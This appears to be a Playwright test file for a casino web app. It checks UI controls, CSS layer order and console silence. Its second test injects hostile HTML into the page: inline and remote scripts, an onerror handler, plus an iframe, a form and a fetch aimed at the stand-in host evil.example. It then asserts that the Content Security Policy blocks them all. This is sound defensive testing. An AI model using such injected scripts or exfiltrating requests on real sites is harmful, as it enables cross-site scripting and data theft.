import type { Page } from "@playwright/test"
import { expect, test } from "./casino"
import { alive } from "./shell"

/** What the content policy refused, on all pages of the test. */
async function refusals(page: Page): Promise<string[]> {
  const refused: string[] = []
  await page.exposeFunction("noteRefusal", (text: string) => refused.push(text))
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample }) =>
      Reflect.get(window, "noteRefusal")(`${location.pathname}: ${violatedDirective} ${blockedURI} ${sample}`),
    )
  })
  return refused
}

const inMain = (page: Page, selector: string) => page.locator(`:is(header, main) ${selector}:visible:enabled`)

/** Opens each such control of the page in turn, waits for what it opens and closes it. Returns how many there were. */
async function openEach(page: Page, selector: string, opened: string): Promise<number> {
  const controls = inMain(page, selector)
  const count = await controls.count()
  for (let index = 0; index < count; index += 1) {
    await controls.nth(index).click()
    await expect(page.locator(opened).first()).toBeVisible()
    await page.keyboard.press("Escape")
    await expect(page.locator(opened)).toHaveCount(0)
  }
  return count
}

async function openEverything(page: Page): Promise<{ selects: number; menus: number }> {
  const selects = await openEach(page, "[role=combobox][aria-autocomplete=none]", "[role=listbox]")
  const menus = await openEach(page, "[aria-haspopup=menu]", "[role=menu]")
  for (const button of await inMain(page, "[data-slot=icon-button]").all()) await button.hover()
  return { selects, menus }
}

/** The order in which the page's sheets first name the cascade layers, which is the order in which they win. */
const layersOf = (page: Page) =>
  page.evaluate(() => {
    const names = new Set<string>()
    const read = (rules: CSSRuleList) => {
      for (const rule of rules) {
        if (rule instanceof CSSLayerStatementRule) for (const name of rule.nameList) names.add(name)
        else if (rule instanceof CSSLayerBlockRule) names.add(rule.name)
        else if (rule instanceof CSSGroupingRule) read(rule.cssRules)
      }
    }
    for (const sheet of document.styleSheets) read(sheet.cssRules)
    return [...names].filter((name) => ["theme", "base", "components", "utilities"].includes(name))
  })

test("a bet, its proof and every Select, menu and tip keep the content policy, the order of the style layers and a silent console", async ({
  player,
}) => {
  const { page } = player
  const refused = await refusals(page)
  page.on("console", (message) => refused.push(`${message.type()}: ${message.text()}`))
  page.on("pageerror", (error) => refused.push(error.message))
  const layers: Record<string, string[]> = {}
  const seen: Record<string, { selects: number; menus: number }> = {}
  const look = async (name: string) => {
    seen[name] = await openEverything(page)
    layers[name] = await layersOf(page)
  }
  await player.openGame({ game: "plinko" })
  await page.getByRole("radio", { name: "Classic 6" }).click()
  await look("plinko")
  await page.locator("[data-slot=dock]").getByRole("button", { name: /^Drop/ }).click()
  await expect(page.getByRole("status").filter({ hasText: /Bucket \d of 7/ })).toBeVisible()
  await page.getByRole("button", { name: "Provably fair" }).click()
  await expect(page.getByText("This result is verified")).toBeVisible()
  await page.keyboard.press("Escape")
  await page.getByRole("button", { name: "Theme" }).click()
  await expect(page.getByRole("dialog", { name: /^Theme/ })).toBeVisible()
  const wallet = await player.address()
  await page.goto(`/game/${wallet}/blackjack`)
  await player.start()
  await look("blackjack")
  const history = `/explorer/player/${wallet}?tab=history`
  for (const path of [history, "/explorer"]) {
    await page.goto(path)
    await alive(page)
    await expect(page.getByRole("heading", { level: 1 }).first()).toBeAttached()
    if (path === history) await expect(page.getByRole("combobox", { name: "Outcome" })).toBeVisible()
    await look(path)
  }
  for (const path of ["/", "/jackpot", "/mines"]) {
    await page.goto(path)
    await alive(page)
    layers[path] = await layersOf(page)
  }
  expect(refused).toEqual([])
  expect(seen.plinko).toMatchObject({ selects: 1, menus: 1 })
  expect(seen.blackjack?.selects).toBe(0)
  expect(seen[history]?.selects).toBe(3)
  for (const [name, order] of Object.entries(layers))
    expect(order, name).toEqual(["theme", "base", "components", "utilities"])
})

test("what somebody brings into a page runs nothing and reaches nobody: scripts, handlers, frames, forms, requests", async ({
  page,
  stack: _,
}) => {
  const refused = await refusals(page)
  await page.goto("/")
  await alive(page)
  await page.evaluate(async () => {
    const bring = (html: string) => {
      const place = document.createElement("div")
      place.innerHTML = html
      // Scripts that come as a text never run; one that is made does, where the policy lets it.
      for (const { textContent, attributes } of place.querySelectorAll("script")) {
        const made = document.createElement("script")
        for (const { name, value } of attributes) made.setAttribute(name, value)
        made.textContent = textContent
        place.append(made)
      }
      document.body.append(place)
    }
    bring(`<script>window.ran = "a script"</script>`)
    bring(`<script src="https://evil.example/x.js"></script>`)
    bring(`<script src="data:text/javascript,window.ran='a data URL'"></script>`)
    bring(`<img src="/nothing.png" onerror="window.ran = 'a handler'">`)
    bring(`<iframe src="https://evil.example/"></iframe>`)
    bring(`<form action="https://evil.example/"><button>Sign</button></form>`)
    document.querySelector<HTMLButtonElement>(`form[action^="https://evil"] button`)?.click()
    await fetch("https://evil.example/?key").catch(() => undefined)
    setTimeout("window.ran = 'a text'")
  })
  const named = () => [...new Set(refused.map((line) => line.split(" ")[1]))].sort()
  await expect
    .poll(named)
    .toEqual(["connect-src", "form-action", "frame-src", "script-src", "script-src-attr", "script-src-elem"])
  expect(await page.evaluate(() => Reflect.get(window, "ran"))).toBeUndefined()
})
